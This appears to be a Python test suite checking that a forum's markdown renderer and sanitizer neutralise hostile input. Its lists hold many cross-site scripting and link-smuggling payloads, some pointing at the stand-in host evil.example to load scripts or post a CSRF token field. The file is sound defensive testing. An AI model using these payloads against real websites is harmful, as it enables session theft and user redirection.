"""No text becomes a script, a forbidden element or a link that hides that it leaves the site."""

from html import unescape
from itertools import product

from hypothesis import given
from hypothesis import strategies as st

from forum.text.markup import sanitizer
from tests.support.tables import assert_each

from .reading import assert_allowed, assert_safe, rendered

HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<template><s><template><s><img src=x onerror=alert(1)></template>",
    "<style>@import 'https://evil.example'; body{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a id=c-4 class=button name=body>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object><embed src=x><base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example><link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<?php echo 1 ?><!DOCTYPE html><![CDATA[<script>alert(1)</script>]]>",
    "<plaintext>",
    "</p></div></body></html><script>alert(1)",
    "<div\x0conclick=alert(1)>x",
    "<\u200bscript>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
FORBIDDEN = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61;vascript&colon;alert(1)",
    "javascript&NewLine;:alert(1)",
    "java&Tab;script:alert(1)",
    "&#1;javascript:alert(1)",
    r"java\script:alert(1)",
    "javascript%3Aalert(1)",
    "\u200bjavascript:alert(1)",
    "ｊavascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/png;base64,iVBORw0KGgo=",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example",
]
DESTINATIONS = [
    *FORBIDDEN,
    r"/\evil.example",
    "/\t/evil.example",
    "https:evil.example",
    "https:///evil.example",
    r"https:\\evil.example",
    "?next=//evil.example",
    "../admin/",
    "blob:https://example.com/1",
    "view-source:https://example.com",
    'https://example.com/"onmouseover="alert(1)',
    "https://example.com/'><script>alert(1)</script>",
    "https://example.com/<svg/onload=alert(1)>",
    "https://user@evil.example\\@example.com",
    "https://exa\u202emple.com/\u0000",
]
FORMS = [
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    "{}",
    "[x]: {}\n\n[x]",
    '[x](/a "{}")',
    "[{}](/a)",
    "![{}](/a)",
    "```{}\nx",
]
WRAPPERS = ["- {}", "> {}", "# {}", "`{}`", "```\n{}\n```", "[{}](/a)", "a|b\n-|-\n{}|", "*{}*", "    {}"]
ATTRIBUTES = [
    "[a](https://example.com 'x\" onclick=\"alert(1)')",
    "[a][b]\n\n[b]: https://example.com '\"><script>alert(1)</script>'",
    "![a\" onerror=\"alert(1)](https://example.com/x.png 'y')",
    "[a](https://example.com){onclick=alert(1)}",
    "# a {#c-4 .hidden}",
]


def test_html_is_escaped_and_shown():
    def check(source):
        page = assert_safe(rendered(source))
        assert set(page.tags) <= {"p", "br", "a"}
        assert page.text.count("alert(1)") == unescape(source).count("alert(1)")

    assert_each(check, HTML)


def test_html_within_markdown_is_escaped():
    assert_each(lambda wrapper, source: assert_safe(rendered(wrapper.format(source))), product(WRAPPERS, HTML))


def test_the_sanitizer_is_safe_without_the_parser():
    assert_each(lambda source: assert_allowed(sanitizer.clean(f"<p>{source}</p>")), HTML)


def test_no_link_runs_a_script_or_hides_that_it_leaves_the_site():
    assert_each(
        lambda form, destination: assert_safe(rendered(form.format(destination))), product(FORMS, DESTINATIONS)
    )


def test_a_forbidden_link_is_not_rendered():
    def check(destination):
        assert assert_safe(rendered(f"[x]({destination})")).links == []

    assert_each(check, FORBIDDEN)


def test_attributes_cannot_be_added():
    def check(source):
        page = assert_safe(rendered(source))
        assert all(set(attributes) <= {"href", "rel"} for _, attributes in page.elements)

    assert_each(check, ATTRIBUTES)


MARKDOWN = st.recursive(
    st.sampled_from(
        [*HTML, *DESTINATIONS, "a", "b c", "#4.1", "@ben", "\n", "\\", "&", "]", ")", "`", "*", "~~", "|", "\t"]
    ),
    lambda inner: st.one_of(
        st.builds(str.format, st.sampled_from([*FORMS, "*{}*", "**{}", "`{}`", "~~{}~~", "<b {}>"]), inner),
        st.builds(str.format, st.sampled_from(["\n\n> {}", "\n- {}", "\n1. {}\n", "\n# {}\n", "\n    {}"]), inner),
        st.builds(str.format, st.sampled_from(["\n|{0}|{0}|\n|-|-|\n|{0}|", "\n~~~\n{0}", "\n{0}\n===\n"]), inner),
        st.lists(inner, max_size=4).map("".join),
    ),
    max_leaves=12,
)


@given(MARKDOWN)
def test_any_combination_of_markdown_is_safe(source):
    assert_safe(rendered(source, post_id=12, members=["ben"]))


@given(st.text(max_size=400))
def test_any_text_is_safe(source):
    assert_safe(rendered(source, post_id=12, members=["ben"]))
